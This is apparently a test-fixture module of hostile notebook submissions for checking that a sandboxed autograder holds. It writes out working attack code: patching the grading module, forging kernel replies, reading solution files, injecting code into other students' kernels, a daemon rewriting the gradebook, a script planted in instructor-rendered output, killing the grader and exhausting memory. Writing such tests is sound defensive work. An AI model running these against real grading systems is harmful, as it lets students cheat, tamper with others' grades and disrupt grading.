"""Submissions that attack the grader, generated for the cohort test (issue: trusted grading).

Each attack starts from wrong answers (``bad_risk_share = 0.9``, ``answer_q1 = "A"``: an
honest wrong notebook scores 0) and tries, from an answer cell of 00_welcome,
one way a determined student got points, leaked hidden tests, touched other
people's files or stalled the batch before grading was sandboxed. Where an
attack can only tell it succeeded from the inside (it read a file it should not
see, reached the network, found another process), it then writes the *right*
answer, so success shows up as points. ``{course}`` is the course directory and
``{port}`` a loopback port the test listens on.
"""

from __future__ import annotations

WRONG_START = "bad_risk_share = 0.9\n"
#: Written when an attack's step succeeded: the right answer, so success earns points.
WIN = "bad_risk_share = 0.3"

ATTACKS: dict[str, str] = {
    # 1, 2: replace the checks (and what the old guard restored them from) in the kernel
    "patch-checks-module": (
        "import course.checks as c\n"
        "c.grade = c.key_of = lambda *a, **k: None\n"
        "c.Exercises.__call__ = lambda *a, **k: None\n"
        "exec('def grade(*a, **k):\\n    return None', vars(c))"),
    # 3: make the kernel answer every request with "ok" and no output
    "replace-do-execute": (
        "k = get_ipython().kernel\n"
        "async def fake(*a, **kw):\n"
        "    return {'status': 'ok', 'execution_count': 1, 'user_expressions': {}}\n"
        "k.do_execute = fake"),
    # 4: drop error messages and turn error replies into ok
    "filter-session-send": (
        "s = get_ipython().kernel.session\n"
        "real = s.send\n"
        "def send(stream, msg, *a, **k):\n"
        "    kind = msg if isinstance(msg, str) else msg.get('msg_type', '')\n"
        "    if kind == 'error':\n"
        "        return None\n"
        "    if isinstance(msg, dict) and msg.get('content', {}).get('status') == 'error':\n"
        "        msg['content']['status'] = 'ok'\n"
        "    return real(stream, msg, *a, **k)\n"
        "s.send = send"),
    # 5: a number that looks up the expected value in the checking frame's locals
    "frame-walking-number": (
        "import numbers, sys\n"
        "class Sneaky:\n"
        "    def __float__(self):\n"
        "        f = sys._getframe(1)\n"
        "        while f is not None:\n"
        "            for v in f.f_locals.values():\n"
        "                if isinstance(v, str) and v.startswith('0.'):\n"
        "                    return float(v)\n"
        "            f = f.f_back\n"
        "        return 0.9\n"
        "numbers.Real.register(Sneaky)\n"
        "bad_risk_share = Sneaky()\n"
        "answer_q1 = 'A'\n"),
    # 6: an input transformer that claims to be IPython's
    "spoofed-transformer": (
        "def f(lines):\n"
        "    return ['pass\\n'] if any('check' in l for l in lines) else lines\n"
        "f.__module__ = 'IPython.core.inputtransformer2'\n"
        "get_ipython().input_transformers_cleanup.append(f)"),
    # 7: an audit hook that patches the checks whenever code is compiled
    "audit-hook": (
        "import sys\n"
        "def hook(event, args):\n"
        "    if event == 'compile':\n"
        "        m = sys.modules.get('course.checks')\n"
        "        if m is not None:\n"
        "            m.grade = lambda *a, **k: None\n"
        "sys.addaudithook(hook)"),
    # 8: read the solutions (the old worker's scratch copy, or the course's own)
    "read-solutions": (
        "import io, glob\n"
        "sep = '/'\n"
        "paths = glob.glob(sep.join(['', 'tmp', 'course-grading-*', '*', 'solutions', '*', '*']))"
        "\npaths += glob.glob('{course}' + sep + 'solutions' + sep + '*' + sep + '*')\n"
        "for p in paths:\n"
        "    with io.FileIO(p) as fh:\n"
        "        if b'0.3' in fh.read():\n"
        "            " + WIN + "\n"
        "            break"),
    # 9: find another kernel through /proc and run code in it
    "inject-classmate-kernel": (
        "import glob, os\n"
        "found = []\n"
        "for cmd in glob.glob('/proc/[0-9]*/cmdline'):\n"
        "    try:\n"
        "        parts = open(cmd, 'rb').read().split(b'\\0')\n"
        "    except OSError:\n"
        "        continue\n"
        "    files = [p.decode() for p in parts if p.endswith(b'.json')]\n"
        "    if files and cmd.split('/')[2] != str(os.getpid()):\n"
        "        found += files\n"
        "from jupyter_client import BlockingKernelClient\n"
        "for f in found:\n"
        "    try:\n"
        "        kc = BlockingKernelClient(connection_file=f)\n"
        "        kc.load_connection_file()\n"
        "        kc.start_channels()\n"
        "        kc.execute('bad_risk_share = 0.3; answer_q1 = \"B\"')\n"
        "    except Exception:\n"
        "        pass\n"
        "if found:\n"
        "    " + WIN),
    # 10: rewrite the installed checks on disk, for the students graded later
    "rewrite-installed-checks": (
        "import course.checks as c\n"
        "try:\n"
        "    with open(c.__file__, 'a') as fh:\n"
        "        fh.write('\\ndef grade(*a, **k):\\n    return None\\n')\n"
        "    " + WIN + "\n"
        "except OSError:\n"
        "    pass"),
    # 11: a daemon that outlives the grader and rewrites grades, gradebook and feedback
    "daemon-rewrites-grades": (
        "import os, time, sqlite3\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        for _ in range(60):\n"
        "            time.sleep(1)\n"
        "            try:\n"
        "                open('{course}/grades.csv', 'a').write('PWNED,BY,DAEMON\\n')\n"
        "                db = sqlite3.connect('{course}/gradebook.db')\n"
        "                db.execute('UPDATE grade SET auto_score = max_score')\n"
        "                db.commit()\n"
        "                open('{course}/feedback/c-wrong/00_welcome/00_welcome.html', 'a')"
        ".write('PWNED-BY-DAEMON')\n"
        "            except Exception:\n"
        "                pass\n"
        "    os._exit(0)"),
    # 12: print the hidden tests from the kernel's input history into the feedback
    "print-hidden-tests": (
        "print([s for s in In if 'HIDDEN' in s or 'checks.grade' in s])"),
    # 14: a script in a cell the formgrader renders in the instructor's session
    "script-in-output": (
        "from IPython.display import HTML, Javascript, display\n"
        "display(HTML('<script>fetch(\"/api/contents/xss-proof.txt\", {method: \"PUT\"})"
        "</script><b>memo</b>'))\n"
        "display(Javascript('document.title = \"owned\"'))"),
    # 15: three processes that together hold more than the memory limit
    # (each child says when its memory is held, so the outcome does not depend on how
    # fast a loaded machine starts them: either the limit stops one, or all three hold it)
    "children-hog-memory": (
        "import subprocess, sys\n"
        "code = ('import time; x = bytearray(900 * 2**20); print(\"held\", flush=True); '\n"
        "        'time.sleep(20)')\n"
        "kids = [subprocess.Popen([sys.executable, '-c', code], stdout=subprocess.PIPE)\n"
        "        for _ in range(3)]\n"
        "held = [k.stdout.readline() == b'held\\n' for k in kids]\n"
        "if all(held):\n"
        "    " + WIN),
    # 18: kill the grading process above the kernel
    "kill-the-parent": (
        "import os, signal\n"
        "for pid in (os.getppid(), 1):\n"
        "    try:\n"
        "        os.kill(pid, signal.SIGKILL)\n"
        "    except OSError:\n"
        "        pass\n"
        "import glob\n"
        "for cmd in glob.glob('/proc/[0-9]*/cmdline'):\n"
        "    try:\n"
        "        if b'course' in open(cmd, 'rb').read() and b'grade' in open(cmd, 'rb').read():\n"
        "            os.kill(int(cmd.split('/')[2]), signal.SIGKILL)\n"
        "    except OSError:\n"
        "        pass"),
    # 20: many slow cells, each under the per-cell limit
    "many-slow-cells": "import time\ntime.sleep(4.5)",
    # network: reach a server on the grader's loopback
    "reach-network": (
        "import socket\n"
        "try:\n"
        "    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'leak')\n"
        "    " + WIN + "\n"
        "except OSError:\n"
        "    pass"),
    # /proc: find the grader's processes and read their environment
    "read-other-proc": (
        "import glob\n"
        "for cmd in glob.glob('/proc/[0-9]*/cmdline'):\n"
        "    try:\n"
        "        text = open(cmd, 'rb').read()\n"
        "        env = open(cmd.replace('cmdline', 'environ'), 'rb').read()\n"
        "    except OSError:\n"
        "        continue\n"
        "    if (b'pytest' in text or b'nbgrader' in text) and env:\n"
        "        " + WIN),
}
#: Extra code cells an attack appends after the answer cell (attack 20: 30 slow cells).
EXTRA_CELLS = {"many-slow-cells": ["import time\ntime.sleep(4.5)"] * 30}


def attack_code(name: str, course: str, port: int) -> str:
    """Return attack ``name``'s answer cell for the course at ``course``."""
    code = ATTACKS[name].replace("{course}", course).replace("{port}", str(port))
    return code if name == "frame-walking-number" else WRONG_START + code
